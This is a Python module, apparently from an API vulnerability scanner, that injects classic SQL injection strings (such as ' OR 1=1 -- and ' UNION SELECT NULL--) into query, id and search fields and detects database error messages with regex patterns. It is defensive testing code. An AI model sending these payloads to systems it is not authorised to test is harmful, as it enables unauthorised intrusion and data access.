import re

from apiprobe.injectors.base import Attempt, FieldInjector
from apiprobe.transport import HttpResponse

# Database error fingerprints
SQL_ERROR_PATTERNS = [
    re.compile(r"sql syntax", re.IGNORECASE),
    re.compile(r"mysql", re.IGNORECASE),
    re.compile(r"postgresql", re.IGNORECASE),
    re.compile(r"sqlite", re.IGNORECASE),
    re.compile(r"ora-\d+", re.IGNORECASE),
    re.compile(r"sqlstate", re.IGNORECASE),
    re.compile(r"syntax error.*sql", re.IGNORECASE),
]


def has_sql_error(text: str) -> bool:
    return any(p.search(text) for p in SQL_ERROR_PATTERNS)


class SQLInjector(FieldInjector):
    name = "sql_injection"
    kind = "sql_injection"
    description = "Classic SQL injection strings in query/id/search"
    severity = "high"

    payloads = (
        "' OR 1=1 --",
        "' OR '1'='1",
        "1' OR '1'='1",
        "admin'--",
        "' UNION SELECT NULL--",
    )
    fields = ("query", "id", "search")

    def analyze_response(self, resp: HttpResponse, attempt: Attempt) -> bool:
        return resp.status in (200, 500) and has_sql_error(resp.text)
